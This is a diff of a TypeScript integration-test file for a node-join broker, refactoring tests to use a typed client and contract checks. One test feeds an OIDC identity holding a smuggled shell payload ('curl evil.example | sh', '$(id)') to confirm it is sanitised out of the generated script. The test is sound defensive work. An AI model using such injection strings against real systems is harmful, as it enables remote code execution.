@@ -17,10 +17,10 @@ import { createHmac, createPrivateKey, createSign, generateKeyPairSync, X509Cert
 import { readFileSync } from 'node:fs';
 import { request as httpRequest } from 'node:http';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import type { JoinBundle } from '../../src/render/bundle.js';
 import { attribute, craftSignedData, derOctets, derOid, digestOf, OID } from '../attest/cms/craft.js';
 import { createPki, type Pki, type TestSigner } from '../attest/cms/pki.js';
 import { run } from '../support/run.js';
+import { assertContract, brokerClient, join, joinText, type BrokerClient, type JoinProvider } from './client.js';
 import { brokerSecrets, devSigner, instanceDocument, signDocument, startStack, type InstanceDocument, type Stack } from './stack.js';
 
 const AUDIENCE = 'https://broker.test';
@@ -30,6 +30,7 @@ const DERIVED_ISSUER = 'https://issuer-derived.test';
 const EVERY_FIELD_TEMPLATE = '{{instanceId}}.{{account}}.{{zone}}.{{region}}.{{attributes.instanceType}}.{{attributes.imageId}}.{{attributes.privateIp}}';
 
 let stack: Stack;
+let broker: BrokerClient;
 let pki: Pki;
 let eu: TestSigner;
 let stranger: TestSigner;
@@ -79,6 +80,7 @@ beforeAll(async () => {
     }),
     rateLimits: { JOIN_RATE_LIMIT_BY_ADDRESS: { simple: { limit: 10_000, period: 60 } } },
   });
+  broker = brokerClient(stack);
 });
 afterAll(async () => {
   await stack?.stop();
@@ -170,33 +172,33 @@ describe('legitimate joins in this file mint (so "nothing minted" below can fail
   it('a dev-signed document: every field of it in the node name', async () => {
     const before = minted();
     const document = instanceDocument({ instanceType: 'm5.large', imageId: 'ami-0abcdef1234567890', privateIp: '10.0.1.23' });
-    const res = await stack.post('/v1/join/aws', await signDocument(document));
-    expect(res.status, await res.clone().text()).toBe(200);
-    expect(((await res.json()) as JoinBundle).nodeName).toBe(`${document.instanceId}.111122223333.us-east-1a.us-east-1.m5.large.ami-0abcdef1234567890.10.0.1.23`);
+    const { data, error } = await join(broker, 'aws', await signDocument(document));
+    expect(error).toBeUndefined();
+    expect(data!.nodeName).toBe(`${document.instanceId}.111122223333.us-east-1a.us-east-1.m5.large.ami-0abcdef1234567890.10.0.1.23`);
     expect(minted()).toBe(before + 1);
   });
 
   it("the eu-only signer's eu-west-1 document (the key is trusted, for its own region)", async () => {
     const before = minted();
     const document = instanceDocument({ region: 'eu-west-1', availabilityZone: 'eu-west-1b' });
-    const res = await stack.post('/v1/join/aws', await signDocument(document, eu));
-    expect(res.status, await res.clone().text()).toBe(200);
+    const { error } = await join(broker, 'aws', await signDocument(document, eu));
+    expect(error).toBeUndefined();
     expect(minted()).toBe(before + 1);
   });
 
   it('an RS256 token of the verbatim issuer', async () => {
     const before = minted();
-    const res = await stack.post('/v1/join/oidc', await jwt(VERBATIM_ISSUER, `node-${Date.now()}`));
-    expect(res.status, await res.clone().text()).toBe(200);
+    const { error } = await join(broker, 'oidc', await jwt(VERBATIM_ISSUER, `node-${Date.now()}`));
+    expect(error).toBeUndefined();
     expect(minted()).toBe(before + 1);
   });
 
   it('an OIDC identity full of shell and YAML markup joins under a derived name that carries none of it, and its script is clean', async () => {
     const identity = `node-1'; curl evil.example | sh # $(id)\`x\` {a: b} ${Date.now()}`;
     const before = minted();
-    const res = await stack.post('/v1/join/oidc?format=script', await jwt(DERIVED_ISSUER, identity));
-    expect(res.status, await res.clone().text()).toBe(200);
-    const script = await res.text();
+    const { text, error } = await joinText(broker, 'oidc', await jwt(DERIVED_ISSUER, identity), { format: 'script' });
+    expect(error).toBeUndefined();
+    const script = text!;
     const nodeName = /^node-1-curl-evil-example-sh-id-x-a-b-\d+--[0-9a-f]{12}$/;
     expect(script).toMatch(new RegExp(nodeName.source.slice(1, -1)));
     for (const fragment of ["'; curl", '$(id)', '`x`', '{a: b}']) expect(script).not.toContain(fragment);
@@ -206,9 +208,9 @@ describe('legitimate joins in this file mint (so "nothing minted" below can fail
   });
 
   it('an OIDC identity with a look-alike letter joins under a derived name that cannot pass for the ASCII one', async () => {
-    const res = await stack.post('/v1/join/oidc', await jwt(DERIVED_ISSUER, `n\u043ede-${Date.now()}`));
-    expect(res.status).toBe(200);
-    expect(((await res.json()) as JoinBundle).nodeName).toMatch(/^n-de-\d+--[0-9a-f]{12}$/);
+    const { data, error } = await join(broker, 'oidc', await jwt(DERIVED_ISSUER, `n\u043ede-${Date.now()}`));
+    expect(error).toBeUndefined();
+    expect(data!.nodeName).toMatch(/^n-de-\d+--[0-9a-f]{12}$/);
   });
 });
 
@@ -332,10 +334,9 @@ describe('crafted attacks: each refused with its code, nothing minted', () => {
   it.each(attacks)('%s (%s) → %i %s', async (_, path, status, code, body) => {
     const payload = await body();
     const before = minted();
-    const res = await stack.post(path, payload);
-    const text = await res.text();
-    expect({ status: res.status, code: (JSON.parse(text) as { code?: string }).code }, text).toEqual({ status, code });
-    expect(res.headers.get('content-type')).toBe('application/problem+json');
+    const { response, error } = await join(broker, path.replace('/v1/join/', '') as JoinProvider, payload);
+    expect({ status: response.status, code: error?.code }, JSON.stringify(error)).toEqual({ status, code });
+    expect(response.headers.get('content-type')).toBe('application/problem+json');
     expect(minted()).toBe(before);
   });
 
@@ -349,7 +350,8 @@ describe('crafted attacks: each refused with its code, nothing minted', () => {
     ['/v1/join/oidc', 'chunked without Content-Length, 64 KiB + 1 sent', { 'transfer-encoding': 'chunked' }],
   ])('oversized: %s with a body %s, the rest held back → 413 payload_too_large, nothing minted', async (path, _, headers) => {
     const before = minted();
-    const { status, body } = await postHoldingBack(stack.worker.url, path, headers);
+    const { status, body, headers: answered } = await postHoldingBack(stack.worker.url, path, headers);
+    await assertContract('POST', path, new Response(body, { status, headers: answered }));
     expect(status).toBe(413);
     expect(JSON.parse(body)).toMatchObject({ code: 'payload_too_large' });
     expect(minted()).toBe(before);
@@ -360,7 +362,7 @@ describe('crafted attacks: each refused with its code, nothing minted', () => {
  * POSTs with `headers`, sending only the headers (Content-Length given) or one byte more than the
  * limit (chunked), never ending the body, and resolves with the answer.
  */
-function postHoldingBack(base: URL, path: string, headers: Record<string, string>): Promise<{ status: number; body: string }> {
+function postHoldingBack(base: URL, path: string, headers: Record<string, string>): Promise<{ status: number; body: string; headers: Headers }> {
   return new Promise((resolve, reject) => {
     let answered = false;
     const req = httpRequest(new URL(path, base), { method: 'POST', headers }, (res) => {
@@ -369,7 +371,9 @@ function postHoldingBack(base: URL, path: string, headers: Record<string, string
       res.setEncoding('utf8');
       res.on('data', (chunk: string) => (body += chunk));
       res.on('end', () => {
-        resolve({ status: res.statusCode ?? 0, body });
+        const answered = new Headers();
+        for (const [name, value] of Object.entries(res.headers)) if (typeof value === 'string') answered.set(name, value);
+        resolve({ status: res.statusCode ?? 0, body, headers: answered });
         req.destroy();
       });
     });
